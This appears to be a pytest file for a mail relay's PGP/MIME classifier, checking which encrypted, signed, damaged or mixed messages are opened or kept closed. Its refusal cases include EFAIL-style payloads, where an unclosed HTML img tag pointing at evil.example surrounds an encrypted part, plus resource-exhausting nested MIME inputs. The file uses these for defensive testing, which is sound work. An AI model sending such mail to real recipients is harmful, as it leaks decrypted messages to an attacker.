"""Which mail is opened, verified, or stays closed: the forms of real programs, and what resembles them."""

from __future__ import annotations

import base64
import time

import pytest
from lab import corpus
from lab.incoming import ciphertext
from lab.mail_programs import FORMS as PROGRAMS

from relay.mail import armor, incoming_shape
from relay.mail.incoming_shape import Cleartext, Encrypted, Signed
from relay.model.opened import Reason

DATA = ciphertext("A" * 16)
BLOCK = armor.enarmor(DATA, "MESSAGE")
SIGNATURE = armor.enarmor(b"\xc2\x01\x04", "SIGNATURE")
KIND = b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="b"\r\n'
VERSION = b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
OCTETS = b"Content-Type: application/octet-stream\r\n\r\n" + BLOCK


def mail(kind: bytes, *parts: bytes, preamble: bytes = b"", epilogue: bytes = b"") -> bytes:
    inner = b"".join(b"--b\r\n" + part + b"\r\n" for part in parts)
    return b"From: a@b.example\r\nMIME-Version: 1.0\r\n" + kind + b"\r\n" + preamble + inner + b"--b--\r\n" + epilogue


def text(body: bytes, *fields: bytes) -> bytes:
    return b"From: a@b.example\r\n" + b"".join(field + b"\r\n" for field in fields) + b"\r\n" + body


FORMS = {
    **{program: form.mail(b"From: a@b.example\r\nMIME-Version: 1.0\r\n", BLOCK) for program, form in PROGRAMS.items()},
    "in base64": mail(
        KIND,
        b"Content-Type: application/pgp-encrypted\r\nContent-Transfer-Encoding: base64\r\n\r\nVmVyc2lvbjogMQo=\r\n",
        b"Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(BLOCK).replace(b"\n", b"\r\n"),
    ),
    "binary, in base64": mail(
        KIND,
        VERSION,
        b"Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(DATA).replace(b"\n", b"\r\n"),
    ),
    "a comment in its armor": mail(
        KIND, VERSION, OCTETS.replace(b"MESSAGE-----\r\n\r\n", b"MESSAGE-----\r\nVersion: x\r\nComment: y\r\n\r\n", 1)
    ),
    "not closed": mail(KIND, VERSION, OCTETS).removesuffix(b"--b--\r\n"),
}
INLINE = {
    "alone": text(BLOCK),
    "with blank lines": text(b"\r\n \r\n" + BLOCK + b"\r\n\r\n", b"Content-Type: text/plain; charset=utf-8"),
    "quoted-printable": text(
        BLOCK.replace(b"=", b"=3D"), b"Content-Type: text/plain", b"Content-Transfer-Encoding: quoted-printable"
    ),
}
CLOSED = {
    "a third part": mail(KIND, VERSION, OCTETS, b"\r\nhello"),
    "one part": mail(KIND, VERSION),
    "a list's footer behind it": mail(KIND, VERSION, OCTETS, epilogue=b"-- \r\nfooter\r\n"),
    "another first part": mail(KIND, b"Content-Type: text/html\r\n\r\n<img src='http://evil.example/", OCTETS),
    "another second part": mail(KIND, VERSION, OCTETS.replace(b"application/octet-stream", b"text/html")),
    "two messages": mail(KIND, VERSION, OCTETS + BLOCK),
    "text before the armor": mail(KIND, VERSION, OCTETS.replace(b"-----BEGIN", b"hello\r\n-----BEGIN", 1)),
    "text behind the armor": mail(KIND, VERSION, OCTETS + b"hello"),
    "inline behind text": text(b"hello\r\n" + BLOCK),
    "inline before text": text(BLOCK + b"hello\r\n"),
    "inline twice": text(BLOCK + BLOCK),
    "inline in HTML": text(b"<pre>\r\n" + BLOCK, b"Content-Type: text/html"),
    "below multipart/mixed": mail(
        b'Content-Type: multipart/mixed; boundary="b"\r\n', b"\r\nhello", KIND + b"\r\n--x--"
    ),
    "in a part": mail(b'Content-Type: multipart/mixed; boundary="b"\r\n', b"\r\nhello", b"\r\n" + BLOCK),
    "attached": mail(
        b'Content-Type: multipart/mixed; boundary="b"\r\n',
        b"\r\nhello",
        b"Content-Type: application/octet-stream; name=x.pgp\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(DATA),
    ),
    "EFAIL: between two parts of HTML": mail(
        b'Content-Type: multipart/mixed; boundary="b"\r\n',
        b"Content-Type: text/html\r\n\r\n<img src='http://evil.example/",
        KIND.replace(b'"b"', b'"i"') + b"\r\n--i\r\n" + VERSION + b"\r\n--i\r\n" + OCTETS + b"\r\n--i--\r\n",
        b"Content-Type: text/html\r\n\r\n'>",
    ),
    "below a signature": mail(
        b'Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary="b"\r\n',
        KIND.replace(b'"b"', b'"i"') + b"\r\n--i--",
        b"Content-Type: application/pgp-signature\r\n\r\n" + SIGNATURE,
    ),
    "another message/rfc822": mail(
        b'Content-Type: multipart/mixed; boundary="b"\r\n', b"\r\nhello", b"Content-Type: text/plain\r\n\r\n" + BLOCK
    ),
    "two Content-Type fields": mail(KIND + KIND, VERSION, OCTETS),
}
DAMAGED = {
    "no armor": mail(KIND, VERSION, b"Content-Type: application/octet-stream\r\n\r\nhello"),
    "cut off": mail(KIND, VERSION, OCTETS.partition(b"-----END")[0]),
    "a public key": mail(KIND, VERSION, OCTETS.replace(b"PGP MESSAGE", b"PGP PUBLIC KEY BLOCK")),
    "no parts": text(b"hello", KIND.rstrip()),
}
PLAIN = {
    "text": text(b"hello"),
    "a reply that quotes armor": text(b"> " + BLOCK.replace(b"\r\n", b"\r\n> ")),
    "talk about armor": text(b"It begins with -----BEGIN PGP MESSAGE----- and goes on."),
    "a public key": text(BLOCK.replace(b"PGP MESSAGE", b"PGP PUBLIC KEY BLOCK")),
    "S/MIME": text(b"MIIB", b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data"),
    "encrypted by something else": mail(KIND.replace(b"pgp-encrypted", b"x-other"), VERSION).replace(
        b"multipart/enc", b"multipart/x-enc"
    ),
}


@pytest.mark.parametrize("content", FORMS.values(), ids=FORMS)
def test_what_real_programs_write_is_opened(content: bytes) -> None:
    assert incoming_shape.protection(content) == Encrypted(DATA)


@pytest.mark.parametrize("content", INLINE.values(), ids=INLINE)
def test_one_block_in_a_text_is_opened(content: bytes) -> None:
    found = incoming_shape.protection(content)
    assert isinstance(found, Encrypted)
    assert (found.data, found.inline) == (DATA, True)


@pytest.mark.parametrize("content", CLOSED.values(), ids=CLOSED)
def test_what_is_encrypted_in_part_stays_closed(content: bytes) -> None:
    assert incoming_shape.protection(content) is Reason.MIXED


@pytest.mark.parametrize("content", DAMAGED.values(), ids=DAMAGED)
def test_what_cannot_be_read_stays_closed(content: bytes) -> None:
    assert incoming_shape.protection(content) is Reason.DAMAGED


@pytest.mark.parametrize("content", PLAIN.values(), ids=PLAIN)
def test_what_is_not_encrypted(content: bytes) -> None:
    assert incoming_shape.protection(content) is None


def signed(part: bytes, *more: bytes, epilogue: bytes = b"") -> bytes:
    kind = b'Content-Type: multipart/signed; protocol="application/pgp-signature"; micalg=pgp-sha256; boundary="b"\r\n'
    last = b"Content-Type: application/pgp-signature\r\n\r\n" + SIGNATURE
    return mail(kind, part, last, *more, epilogue=epilogue)


def test_a_detached_signature_covers_the_part_with_its_header() -> None:
    part = b"Content-Type: text/plain\r\n\r\nhello \r\n\r\n"
    assert incoming_shape.protection(signed(part)) == Signed(part, b"\xc2\x01\x04")
    assert incoming_shape.protection(signed(b"\r\nno header")) == Signed(b"\r\nno header", b"\xc2\x01\x04")


def test_a_signature_over_a_part_is_none() -> None:
    for content in (
        signed(b"\r\nhello", b"\r\nmore"),
        signed(b"\r\nhello", epilogue=b"more"),
        mail(
            b'Content-Type: multipart/mixed; boundary="b"\r\n',
            b"\r\nhello",
            b"Content-Type: application/pgp-signature\r\n\r\n" + SIGNATURE,
        ),
        text(b"before\r\n-----BEGIN PGP SIGNED MESSAGE-----\r\n\r\nx\r\n" + SIGNATURE),
        text(b"-----BEGIN PGP SIGNED MESSAGE-----\r\n\r\nx\r\n" + SIGNATURE + b"behind"),
    ):
        assert incoming_shape.protection(content) is None


def test_a_signature_that_cannot_be_read_is_none_that_holds() -> None:
    assert incoming_shape.protection(signed(b"\r\nx").replace(SIGNATURE, b"hello")) == Signed(b"\r\nx", b"")


def test_a_text_that_is_signed_in_line() -> None:
    body = b"-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\nx\r\n" + SIGNATURE
    assert incoming_shape.protection(text(body)) == Cleartext(body)


@corpus.needs_cases
@pytest.mark.parametrize("name", ["pgpmime-evolution.eml", "pgpmime-version-base64.eml"])
def test_forms_that_were_refused_once(name: str) -> None:
    content = corpus.case(name).replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    assert isinstance(incoming_shape.protection(content), Encrypted)


def test_hostile_structures_take_linear_time() -> None:
    begun = time.process_time()
    deep = b"".join(b'Content-Type: multipart/mixed; boundary="%d"\r\n\r\n--%d\r\n' % (n, n) for n in range(3000))
    wide = mail(b'Content-Type: multipart/mixed; boundary="b"\r\n', *[b"\r\nx"] * 20_000)
    for content in (b"From: a@b.example\r\n" + deep, wide, text(b"-----BEGIN PGP MESSAGE-----\r\n" * 20_000)):
        incoming_shape.protection(content)
    assert time.process_time() - begun < 5
